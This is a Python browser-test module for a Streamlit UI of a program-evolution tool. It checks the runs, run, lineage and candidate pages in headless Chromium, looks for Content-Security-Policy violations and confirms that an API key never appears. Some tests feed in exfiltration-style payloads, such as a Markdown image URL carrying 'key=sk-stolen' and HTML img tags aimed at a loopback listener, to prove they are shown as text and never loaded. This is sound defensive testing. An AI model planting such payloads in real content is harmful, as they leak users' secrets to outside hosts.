"""The UI in a real browser: `evoforge ui` started as a user starts it, headless
Chromium opening the runs, run, lineage and candidate pages, with screenshots kept in
test-artifacts/ui/. Under CI a missing chromium fails the tests.

Every page is watched for Content-Security-Policy violations: none may occur, so the
UI works under its own policy; and a candidate's text, Markdown and HTML alike, must
load nothing when its pages open."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import write_folder_task
from conftest import KEY_ENV, SECRET, SeededStore
from hostile_run import Listener, bait, hostile_run
from support.browser import BrowserUnavailable, artifacts_folder, launch
from support.services import start_service
from support.ui_server import UiServer

from evoforge.api import run_task
from evoforge.store import Repository, open_database
from evoforge.ui import formatting

pytestmark = pytest.mark.slow
LOAD_S = 60.0


def _start_browser() -> tuple[Any, Any]:
    try:
        from playwright.sync_api import sync_playwright
    except ImportError as exc:
        raise BrowserUnavailable(f"playwright is not installed ({exc})") from exc
    driver = sync_playwright().start()
    try:
        return driver, launch(driver)
    except Exception as exc:  # Playwright's Error: chromium would not start
        driver.stop()
        raise BrowserUnavailable(f"chromium would not start: {exc}") from exc


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    driver, chromium = start_service(_start_browser, BrowserUnavailable, "headless chromium")
    yield chromium
    chromium.close()
    driver.stop()


@pytest.fixture(scope="module")
def ui(seeded_store: SeededStore, tmp_path_factory: pytest.TempPathFactory) -> Iterator[UiServer]:
    # The server process holds the model key in its environment, as a user's would.
    log = tmp_path_factory.mktemp("ui-server") / "server.log"
    with UiServer(seeded_store.url, log, env={KEY_ENV: SECRET}) as server:
        yield server


WATCH_POLICY = """
window.__policyViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
    window.__policyViolations.push(`${event.violatedDirective} ${event.blockedURI}`);
});
"""


def new_page(browser: Any, **options: Any) -> Any:
    """A tab that records every Content-Security-Policy violation of the pages it
    opens (`violations(page)`), from before the page's own scripts run."""
    page = browser.new_page(**options)
    page.add_init_script(WATCH_POLICY)
    return page


def violations(page: Any) -> list[str]:
    return list(page.evaluate("window.__policyViolations || []"))


def open_and_wait(page: Any, url: str, *texts: str) -> None:
    """Open a page and wait until every text is on it: Streamlit draws in steps, and
    keeps the previous page's elements until the new script has replaced them."""
    page.goto(url)
    for text in texts:
        page.get_by_text(text, exact=False).first.wait_for(timeout=LOAD_S * 1000)


def assert_healthy(page: Any) -> None:
    assert page.get_by_test_id("stException").count() == 0
    assert SECRET not in page.content()
    assert violations(page) == []


def test_runs_run_lineage_and_candidate_pages_in_chromium(
    browser: Any, ui: UiServer, seeded_store: SeededStore
) -> None:
    shots = artifacts_folder()
    summary = seeded_store.packing
    run_id = summary["run_id"]
    best = formatting.score(summary["best_score"])
    page = new_page(browser, viewport={"width": 1400, "height": 1000})

    open_and_wait(page, ui.url("/"), "Runs")
    page.get_by_test_id("stDataFrame").first.wait_for(timeout=LOAD_S * 1000)
    assert_healthy(page)
    page.screenshot(path=str(shots / "runs.png"), full_page=True)

    # The best score, and the published reference it is measured against.
    open_and_wait(page, ui.url(f"/run?run={run_id}"), "Best score over time", best, "2.635")
    page.locator(".vega-embed").first.wait_for(timeout=LOAD_S * 1000)
    assert_healthy(page)
    page.screenshot(path=str(shots / "run.png"), full_page=True)

    open_and_wait(page, ui.url(f"/lineage?run={run_id}"), "Lineage · circle_packing", best)
    page.locator(".vega-embed canvas, .vega-embed svg").first.wait_for(timeout=LOAD_S * 1000)
    assert_healthy(page)
    page.screenshot(path=str(shots / "lineage.png"), full_page=True)

    open_and_wait(
        page, ui.url(f"/candidate?run={run_id}"), "Candidate #", best, "def construct_packing"
    )
    assert_healthy(page)
    page.screenshot(path=str(shots / "candidate.png"), full_page=True)
    page.close()


def test_the_candidate_page_of_an_llm_run_never_shows_the_key(
    browser: Any, ui: UiServer, seeded_store: SeededStore
) -> None:
    page = new_page(browser)
    run_id = seeded_store.llm["run_id"]
    best = formatting.score(seeded_store.llm["best_score"])
    open_and_wait(page, ui.url(f"/candidate?run={run_id}"), "Candidate #", best)
    page.get_by_role("tab", name="Proposer").click()
    page.get_by_text("Move X to the hidden target.").first.wait_for(timeout=LOAD_S * 1000)
    assert_healthy(page)
    page.screenshot(path=str(artifacts_folder() / "candidate-proposer.png"), full_page=True)
    page.close()


SLOW_TASK = {
    "program.py": """
        # EVOLVE-BLOCK-START
        X = 1.0
        # EVOLVE-BLOCK-END
    """,
    "evaluate.py": """
        import time

        def evaluate(program_path):
            time.sleep(0.6)
            scope = {}
            exec(open(program_path).read(), scope)
            return -abs(float(scope["X"]) - 3.0)
    """,
    "task.toml": """
        files = ["program.py"]
        objective = "Move X to 3."
    """,
}


def evaluations_shown(page: Any) -> int:
    label = page.get_by_text(re.compile(r"^evaluations of "))
    metric = page.get_by_test_id("stMetric").filter(has=label)
    return int(metric.get_by_test_id("stMetricValue").inner_text().replace(",", "").strip())


def test_the_run_page_follows_a_live_run_without_reloading(browser: Any, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'live.db'}"
    task = write_folder_task(tmp_path, "slow", SLOW_TASK)
    open_database(url).close()
    outcome: dict[str, Any] = {}
    runner = threading.Thread(
        target=lambda: outcome.update(
            result=run_task(task, db=url, max_evaluations=12, seed=3, evaluation_slots=1)
        )
    )
    page = new_page(browser)
    with UiServer(url, tmp_path / "server.log") as server:
        runner.start()
        repo = Repository(open_database(url))
        while not repo.list_runs() or not repo.list_runs()[0]["evaluations"]["total"]:
            assert runner.is_alive() or outcome, "the run ended before the page opened"
            threading.Event().wait(0.1)
        run_id = repo.list_runs()[0]["run_id"]
        open_and_wait(page, server.url(f"/run?run={run_id}"), "Best score over time")
        first = evaluations_shown(page)
        assert first < 12
        # No reload from here on: the page must move by itself.
        page.wait_for_function(
            "() => [...document.querySelectorAll('[data-testid=stMetric]')]"
            ".some(m => m.innerText.startsWith('evaluations of 12')"
            " && m.querySelector('[data-testid=stMetricValue]').innerText.trim() === '12')",
            timeout=LOAD_S * 1000,
        )
        runner.join(timeout=LOAD_S)
        page.get_by_text(re.compile(r"^finished")).first.wait_for(timeout=LOAD_S * 1000)
        assert evaluations_shown(page) == 12
        assert_healthy(page)
        page.screenshot(path=str(artifacts_folder() / "run-live.png"), full_page=True)
    page.close()
    assert outcome["result"].summary["evaluations"]["total"] == 12


MARKDOWN_REASON_TASK = {
    "program.py": """
        # EVOLVE-BLOCK-START
        X = 1.0
        # EVOLVE-BLOCK-END
    """,
    "evaluate.py": """
        def evaluate(program_path):
            raise ValueError("see ![chart](http://127.0.0.1:9/leak.png?key=sk-stolen) **now**")
    """,
    "task.toml": """
        files = ["program.py"]
    """,
}


def test_a_failure_reason_is_shown_as_text_and_fetches_nothing(
    browser: Any, tmp_path: Path
) -> None:
    """A reason is the candidate's text: Markdown in it must not make the browser load
    an image (which would send whatever its URL carries) when the page opens."""
    url = f"sqlite:///{tmp_path / 'reason.db'}"
    task = write_folder_task(tmp_path, "markdown_reason", MARKDOWN_REASON_TASK)
    done: dict[str, Any] = {}  # in a thread: Playwright's loop runs in this one
    runner = threading.Thread(
        target=lambda: done.update(outcome=run_task(task, db=url, max_evaluations=1))
    )
    runner.start()
    runner.join(timeout=LOAD_S)
    run_id = done["outcome"].run_id
    page = new_page(browser)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    with UiServer(url, tmp_path / "server.log") as server:
        open_and_wait(page, server.url(f"/candidate?run={run_id}"), "Candidate #")
        page.get_by_role("tab", name="Evaluation").click()
        page.get_by_test_id("stAlert").first.wait_for(timeout=LOAD_S * 1000)
        text = page.get_by_test_id("stAlert").first.inner_text()
        page.screenshot(path=str(artifacts_folder() / "candidate-markdown-reason.png"))
        assert violations(page) == []
    page.close()
    assert "![chart](http://127.0.0.1:9/leak.png?key=sk-stolen) **now**" in text
    assert not [seen for seen in requested if "leak.png" in seen]


def test_a_candidates_text_loads_nothing_on_any_page_that_shows_it(
    browser: Any, tmp_path: Path
) -> None:
    """A candidate puts a Markdown image and an HTML `<img>` pointing at a loopback
    listener in its metric names and values, a flagged metric, its cascade stage (so
    its reason), feedback, stdout, stderr and artifacts. Opening every page that shows
    it, every tab and expander open, sends the listener nothing and breaks no policy:
    the text is shown as text. Then an `<img>` put into the page by hand, as if one
    had slipped past the escaping, is still not loaded: the policy refuses it."""
    shots = artifacts_folder()
    with Listener() as listener:
        url, run_id = hostile_run(tmp_path, listener.port)
        page = new_page(browser, viewport={"width": 1400, "height": 1000})
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        with UiServer(url, tmp_path / "server.log") as server:
            open_and_wait(page, server.url("/"), "Runs")
            page.get_by_test_id("stDataFrame").first.wait_for(timeout=LOAD_S * 1000)
            assert_healthy(page)

            open_and_wait(page, server.url(f"/run?run={run_id}"), "Best score over time")
            page.get_by_text("Pareto front of two objectives").click()
            page.get_by_text("candidates on the front").wait_for(timeout=LOAD_S * 1000)
            page.screenshot(path=str(shots / "hostile-run.png"), full_page=True)
            assert_healthy(page)

            open_and_wait(page, server.url(f"/lineage?run={run_id}"), "Lineage")
            page.locator(".vega-embed canvas").first.wait_for(timeout=LOAD_S * 1000)
            assert_healthy(page)

            open_and_wait(page, server.url(f"/candidate?run={run_id}"), "Candidate #")
            for tab in ("Diff vs parent", "Proposer", "Family", "Artifact", "Evaluation"):
                page.get_by_role("tab", name=tab).click()
            page.get_by_text("FLAGGED for review").wait_for(timeout=LOAD_S * 1000)
            for expander in page.get_by_test_id("stExpander").all():
                expander.locator("summary").click()
            page.get_by_text("stderr ![stderr]").wait_for(timeout=LOAD_S * 1000)
            stage = page.get_by_test_id("stMetric").filter(
                has=page.get_by_text("stage", exact=True)
            )
            assert stage.get_by_test_id("stMetricValue").inner_text() == bait(
                "stage", listener.port
            )
            page.screenshot(path=str(shots / "hostile-candidate.png"), full_page=True)
            assert_healthy(page)

            open_and_wait(page, server.url(f"/compare?run={run_id}"), "Side by side")
            assert_healthy(page)
            open_and_wait(page, server.url(f"/export?run={run_id}"), "Download the best 1")
            assert_healthy(page)

            opening = list(requested)
            # What the escaping would have let through, the policy still stops.
            page.evaluate(
                """(url) => {
                    const image = document.createElement("img");
                    image.src = url;
                    document.body.appendChild(image);
                }""",
                f"http://127.0.0.1:{listener.port}/policy.png",
            )
            page.wait_for_function(
                "() => window.__policyViolations.length > 0", timeout=LOAD_S * 1000
            )
            assert violations(page) == [f"img-src http://127.0.0.1:{listener.port}/policy.png"]
            page.wait_for_timeout(1000)
        page.close()
    assert not [seen for seen in opening if f"127.0.0.1:{listener.port}" in seen]
    assert listener.paths == []  # the injected image included
